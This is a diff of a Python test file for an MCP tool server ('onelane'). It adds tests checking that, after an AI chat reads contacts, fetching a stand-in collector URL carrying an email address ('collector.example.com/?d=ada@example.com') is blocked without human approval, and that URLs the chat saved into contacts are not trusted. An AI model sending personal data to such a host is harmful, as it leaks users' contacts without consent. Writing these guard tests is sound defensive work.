@@ -19,6 +19,7 @@ from mcp_types import (
 
 from onelane.server.mcp import build_mcp
 from onelane.storage.database.engine import Database
+from onelane.storage.people import contacts
 from onelane.storage.workflows import approvals
 from onelane.storage.workflows.approvals import Door
 from onelane.tools.catalogue import all_tools
@@ -50,6 +51,7 @@ NOES = {
     "unticked": ElicitResult(action="accept", content={"confirm": False}),
 }
 YES = ElicitResult(action="accept", content={"confirm": True})
+MADE_UP = "https://collector.example.com/?d=ada@example.com"
 
 
 class Declaring(Client):
@@ -197,6 +199,32 @@ async def test_a_chat_that_was_given_strangers_words_leaves_for_run_out_in_vain(
             before = scene.world
             assert (await client.call_tool(tool.name, given)).is_error, tool.name
             assert scene.world == before, tool.name
+
+
+async def test_what_a_chat_has_read_counts_in_a_run_that_it_begins(scene: Scene, era: str) -> None:
+    async with client_of(scene.onelane, "Claude Desktop", era, YES) as client:
+        await client.call_tool("search_contacts", {})
+        begun_now = await client.call_tool("begin_agent_run", {"goal": f"Read {MADE_UP}"})
+        assert begun_now.structured_content is not None
+        given = {"url": MADE_UP, "for_run": begun_now.structured_content["id"]}
+        assert (await client.call_tool("url_fetch", given)).is_error
+        assert scene.visited.urls == []
+        scene.answer_all(allow=True)
+        assert not (await client.call_tool("url_fetch", given)).is_error
+        assert scene.visited.urls == [MADE_UP]
+
+
+async def test_an_address_that_a_chat_has_written_into_a_contact_is_not_a_contacts(scene: Scene, era: str) -> None:
+    known = "https://ada.example.com/"
+    with scene.onelane.database.write() as session:
+        contacts.create_contact(session, name="Ada", website=known)
+    async with client_of(scene.onelane, "Claude Desktop", era, YES) as client:
+        await client.call_tool("search_contacts", {})
+        saved = await client.call_tool("save_contact", {"name": "Grace", "website": MADE_UP})
+        assert not saved.is_error
+        assert (await client.call_tool("url_fetch", {"url": MADE_UP})).is_error
+        assert not (await client.call_tool("url_fetch", {"url": known})).is_error
+    assert scene.visited.urls == [known]
 
 
 def test_a_program_does_nothing_in_its_run_without_the_person(scene: Scene) -> None:
